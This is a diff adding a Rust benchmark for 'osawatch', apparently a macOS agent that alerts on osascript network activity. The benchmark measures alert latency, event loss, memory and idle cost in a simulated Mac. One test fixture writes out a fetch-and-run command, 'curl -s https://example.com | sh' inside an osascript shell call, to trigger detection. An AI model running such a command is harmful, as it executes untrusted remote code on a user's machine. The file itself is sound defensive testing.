@@ -1,0 +1,268 @@
+//! `cargo bench --bench live`: the macOS executable in the simulated Mac, against its limits.
+//!
+//! * `latency`: from a connect event to its alert line in the file, each line forced to the disk, while 1,000
+//!   programs a second start and end.
+//! * `storm`: 10,000 programs a second start and end, for ten seconds; an alert each second; nothing is lost.
+//! * `memory`: 20,000 live processes, half of them found running, half of them told.
+//! * `idle`: nothing happens for ten seconds; processor time and wake-ups of the simulator are counted in.
+//!
+//! `OSAWATCH_MACSIM` and `OSAWATCH_X86_64` name the simulator and the executable, as `.ci/run` builds them.
+#![allow(missing_docs, unreachable_pub, reason = "a benchmark has no readers but its own")]
+#![allow(clippy::disallowed_methods, reason = "a benchmark reads the clock")]
+
+use std::fs::{self, File};
+use std::io::{BufRead, BufReader};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, SystemTime, UNIX_EPOCH};
+
+use osawatch::event::Timestamp;
+use serde_json::{Value as Json, json};
+
+/// Every start of the agent, with time for its self-test.
+const BEGIN: [&str; 3] = [r#"{"wait_es": 5000}"#, r#"{"wait_ntstat": 5000}"#, r#"{"after_ms": 1500}"#];
+
+fn main() {
+    let named = |name: &str| std::env::var_os(name).map(PathBuf::from).filter(|path| path.exists());
+    let (Some(macsim), Some(executable)) = (named("OSAWATCH_MACSIM"), named("OSAWATCH_X86_64")) else {
+        eprintln!("the simulated Mac needs OSAWATCH_MACSIM and OSAWATCH_X86_64: see .ci/run for how to build them");
+        return;
+    };
+    let bench = Bench { macsim, executable };
+    println!("{:<44} {:>12} {:>12} {:>8}", "what", "measured", "limit", "ratio");
+    let wanted = std::env::args().nth(1).filter(|arg| !arg.starts_with('-'));
+    for part in ["latency", "storm", "memory", "idle"] {
+        if wanted.as_deref().is_none_or(|wanted| wanted == part) {
+            match part {
+                "latency" => latency(&bench),
+                "storm" => storm(&bench),
+                "memory" => memory(&bench),
+                _ => idle(&bench),
+            }
+        }
+    }
+}
+
+fn row(what: &str, measured: f64, limit: f64, unit: &str) {
+    println!("{what:<44} {measured:>9.2} {unit:<2} {limit:>9.2} {unit:<2} {:>8.2}", measured / limit);
+}
+
+struct Bench {
+    macsim: PathBuf,
+    executable: PathBuf,
+}
+
+/// A run under way, in a folder of its own.
+struct Running {
+    child: Child,
+    folder: tempfile::TempDir,
+}
+
+/// What a run left.
+struct Ended {
+    alerts: Vec<Json>,
+    stderr: String,
+    usage: libc::rusage,
+}
+
+impl Bench {
+    fn start(&self, steps: &[String]) -> Running {
+        let folder = tempfile::tempdir().expect("a folder can be made");
+        let config = format!(
+            "[alerts]\nfile = \"{0}/alerts.ndjson\"\nstate_directory = \"{0}\"\n[volume]\nmax_alerts = 0\n",
+            folder.path().display()
+        );
+        fs::write(folder.path().join("config.toml"), config).expect("the configuration can be written");
+        fs::write(folder.path().join("script.ndjson"), steps.join("\n")).expect("the script can be written");
+        let stderr = File::create(folder.path().join("stderr")).expect("a file can be made");
+        let mut command = Command::new(&self.macsim);
+        command.args(["--os", "15.1", "--script"]).arg(folder.path().join("script.ndjson")).arg(&self.executable);
+        command.args(["run", "--output", "none", "--config"]).arg(folder.path().join("config.toml"));
+        let child = command.stdout(Stdio::null()).stderr(stderr).spawn().expect("the simulator starts");
+        Running { child, folder }
+    }
+}
+
+impl Running {
+    fn alerts(&self) -> PathBuf {
+        self.folder.path().join("alerts.ndjson")
+    }
+
+    /// Resident bytes of simulator and agent together.
+    fn resident(&self) -> f64 {
+        let status = fs::read_to_string(format!("/proc/{}/status", self.child.id())).unwrap_or_default();
+        let kib = status.lines().find_map(|line| line.strip_prefix("VmRSS:")?.trim().strip_suffix(" kB"));
+        kib.and_then(|kib| kib.trim().parse::<f64>().ok()).unwrap_or(f64::NAN) * 1024.0
+    }
+
+    fn end(mut self) -> Ended {
+        let pid = i32::try_from(self.child.id()).expect("a pid");
+        let mut status = 0;
+        // SAFETY: zero is a valid value of every member of the structure.
+        let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
+        // SAFETY: `status` and `usage` are writable, and the child is ours and not yet waited for.
+        let ended = unsafe { libc::wait4(pid, &mut status, 0, &mut usage) };
+        assert_eq!((ended, status), (pid, 0), "the run failed: {}", self.stderr());
+        let _ = self.child.try_wait();
+        let lines = fs::read_to_string(self.alerts()).unwrap_or_default();
+        let alerts = lines.lines().map(|line| serde_json::from_str(line).expect("an alert is JSON")).collect();
+        Ended { alerts, stderr: self.stderr(), usage }
+    }
+
+    fn stderr(&self) -> String {
+        fs::read_to_string(self.folder.path().join("stderr")).unwrap_or_default()
+    }
+}
+
+impl Ended {
+    /// Fails unless nothing was lost and there are so many alerts.
+    fn check(&self, alerts: usize) {
+        let lost = self.alerts.iter().filter(|alert| alert["event"]["kind"] == "pipeline_error").count();
+        assert_eq!((lost, self.alerts.len()), (0, alerts), "lost or not alerted: {}", self.stderr);
+    }
+
+    /// The most bytes of heap that the agent had at once, as the simulator counts them.
+    fn heap(&self) -> f64 {
+        let line = self.stderr.lines().find_map(|line| line.strip_prefix("macsim: the guest's heap: "));
+        let most = line.and_then(|line| line.split(", ").nth(1)?.split(' ').next()?.parse().ok());
+        most.unwrap_or(f64::NAN)
+    }
+}
+
+fn step(text: Json) -> String {
+    text.to_string()
+}
+
+fn seconds(time: libc::timeval) -> f64 {
+    time.tv_sec as f64 + time.tv_usec as f64 / 1e6
+}
+
+/// A program of no interest that starts, from the shell with pid 400, and ends.
+fn program(pid: u32) -> [Json; 3] {
+    let (version, upid) = (pid + 1, u64::from(pid) + 10_000_000);
+    [
+        json!({"es": {"type": "fork", "pid": 400, "child_pid": pid, "child_pidversion": version, "upid": upid}}),
+        json!({"es": {"type": "exec", "pid": pid, "pidversion": version + 5_000_000, "path": "/usr/bin/clang",
+            "args": ["clang", "-O2", "-Wall", "-c", "-o", "/Users/admin/build/objects/module.o", "source/module.c"],
+            "cwd": "/Users/admin/build", "parent_pid": 400, "responsible_pid": 400, "signing_id": "com.apple.clang",
+            "platform": true, "uid": 501, "upid": upid}}),
+        json!({"es": {"type": "exit", "pid": pid, "code": 0}}),
+    ]
+}
+
+/// osascript starts, connects at once, and ends.
+fn osascript(pid: u32) -> Vec<Json> {
+    let (version, upid) = (pid + 1, u64::from(pid) + 10_000_000);
+    vec![
+        json!({"es": {"type": "fork", "pid": 400, "child_pid": pid, "child_pidversion": version, "upid": upid}}),
+        json!({"es": {"type": "exec", "pid": pid, "pidversion": version + 5_000_000, "path": "/usr/bin/osascript",
+            "args": ["osascript", "-e", "do shell script \"curl -s https://example.com | sh\""],
+            "parent_pid": 400, "responsible_pid": 400, "signing_id": "com.apple.osascript", "platform": true,
+            "uid": 501, "upid": upid}}),
+        json!({"ntstat": {"add_tcp": {"id": pid, "pid": pid, "upid": upid, "local": "192.168.1.5:40000", "state": 0}}}),
+        json!({"ntstat": {"update": {"id": pid, "remote": "93.184.216.34:443", "state": 2}}}),
+        json!({"ntstat": {"remove": {"id": pid}}}),
+        json!({"es": {"type": "exit", "pid": pid, "code": 0}}),
+    ]
+}
+
+fn shell() -> String {
+    step(json!({"proc": {"pid": 400, "path": "/bin/zsh", "pidversion": 900, "signing_id": "com.apple.zsh",
+        "platform": true, "uid": 501, "upid": 4400}}))
+}
+
+fn script(steps: impl IntoIterator<Item = Json>) -> Vec<String> {
+    let begin = BEGIN.map(str::to_owned);
+    std::iter::once(shell()).chain(begin).chain(steps.into_iter().map(step)).collect()
+}
+
+/// Follows a file as a shipper does, and says for each line when it stood there.
+fn follow(path: &Path, lines: usize, patience: Duration) -> Vec<(Duration, String)> {
+    let now = || SystemTime::now().duration_since(UNIX_EPOCH).expect("it is after 1970");
+    let (end, mut seen) = (now() + patience, Vec::with_capacity(lines));
+    let file = loop {
+        match File::open(path) {
+            Ok(file) => break file,
+            Err(_) if now() < end => std::thread::sleep(Duration::from_millis(1)),
+            Err(error) => panic!("no alert file: {error}"),
+        }
+    };
+    let (mut reader, mut line) = (BufReader::new(file), String::new());
+    while seen.len() < lines && now() < end {
+        if reader.read_line(&mut line).expect("the alert file can be read") == 0 || !line.ends_with('\n') {
+            std::thread::sleep(Duration::from_micros(100));
+            continue;
+        }
+        seen.push((now(), std::mem::take(&mut line)));
+    }
+    seen
+}
+
+fn latency(bench: &Bench) {
+    const ALERTS: u64 = 1000;
+    let mut steps: Vec<Json> = (1..10).flat_map(|at| program(at * 100_000)).collect();
+    steps.extend(osascript(1_000_000));
+    let group = json!({"repeat": ALERTS, "over_ms": 10_000, "steps": steps});
+    let running = bench.start(&script([group, json!({"after_ms": 1000, "signal": "TERM"})]));
+    let seen = follow(&running.alerts(), ALERTS as usize, Duration::from_secs(40));
+    running.end().check(ALERTS as usize);
+    let mut latencies: Vec<f64> = seen
+        .iter()
+        .map(|(at, line)| {
+            let alert: Json = serde_json::from_str(line).expect("an alert is JSON");
+            let connected = alert["osawatch"]["sequence"]["events"][1]["@timestamp"].as_str().expect("a time");
+            let connected = Timestamp::parse(connected).expect("a time").nanoseconds();
+            (at.as_nanos() as f64 - connected as f64) / 1e6
+        })
+        .collect();
+    latencies.sort_by(f64::total_cmp);
+    let quantile = |q: f64| latencies[((latencies.len() - 1) as f64 * q) as usize];
+    row("latency, median, at 1,000 execs/s", quantile(0.5), 2.0, "ms");
+    row("latency, 99th percentile", quantile(0.99), 20.0, "ms");
+}
+
+fn storm(bench: &Bench) {
+    let second = |at: u32| {
+        let programs = json!({"repeat": 10_000, "over_ms": 1000, "steps": program(1_000_000 + at * 100_000)});
+        std::iter::once(programs).chain(osascript(500 + at))
+    };
+    let steps = (0..10).flat_map(second).chain([json!({"after_ms": 1000, "signal": "TERM"})]);
+    let ended = bench.start(&script(steps)).end();
+    ended.check(10);
+    row("storm, 10,000 execs/s for 10 s: events lost", 0.0, 1.0, "");
+    row("storm, heap", ended.heap() / 1_048_576.0, 32.0, "MB");
+    let cpu = seconds(ended.usage.ru_utime) + seconds(ended.usage.ru_stime);
+    println!("{:<44} {cpu:>9.2} s", "  processor time, the simulator counted in");
+}
+
+fn memory(bench: &Bench) {
+    let process = json!({"pid": 100_000, "pidversion": 200_001, "upid": 300_000, "parent_pid": 400,
+        "path": "/Applications/Example.app/Contents/Frameworks/Example Helper.app/Contents/MacOS/Example Helper",
+        "args": ["Example Helper", "--type=renderer", "--user-data-dir=/Users/admin/Library/Application Support/Example",
+            "--lang=en-US", "--num-raster-threads=4", "--enable-zero-copy", "--field-trial-handle=1718379636"],
+        "signing_id": "com.example.helper", "uid": 501});
+    let mut told = process.clone();
+    for (name, value) in [("pid", json!(500_000)), ("pidversion", json!(700_001)), ("upid", json!(800_000))] {
+        told[name] = value;
+    }
+    told["type"] = "exec".into();
+    let mut steps = vec![step(json!({"repeat": 10_000, "proc": process}))];
+    let exec = json!({"repeat": 10_000, "over_ms": 2000, "es": told});
+    steps.extend(script([exec, json!({"after_ms": 3000, "signal": "TERM"})]));
+    let running = bench.start(&steps);
+    std::thread::sleep(Duration::from_millis(5500));
+    let resident = running.resident();
+    let ended = running.end();
+    ended.check(0);
+    row("memory, heap with 20,000 processes", ended.heap() / 1_048_576.0, 32.0, "MB");
+    println!("{:<44} {:>9.2} MB", "  resident, the simulator counted in", resident / 1_048_576.0);
+}
+
+fn idle(bench: &Bench) {
+    let run = |ms: u64| bench.start(&script([json!({"after_ms": ms, "signal": "TERM"})])).end();
+    let (short, long) = (run(1000), run(11_000));
+    let cpu = |ended: &Ended| seconds(ended.usage.ru_utime) + seconds(ended.usage.ru_stime);
+    let switches = |ended: &Ended| (ended.usage.ru_nvcsw + ended.usage.ru_nivcsw) as f64;
+    row("idle, processor time in 10 s", (cpu(&long) - cpu(&short)) * 1000.0, 10.0, "ms");
+    row("idle, wake-ups a second, simulator and all", (switches(&long) - switches(&short)) / 10.0, 1.0, "");
+}
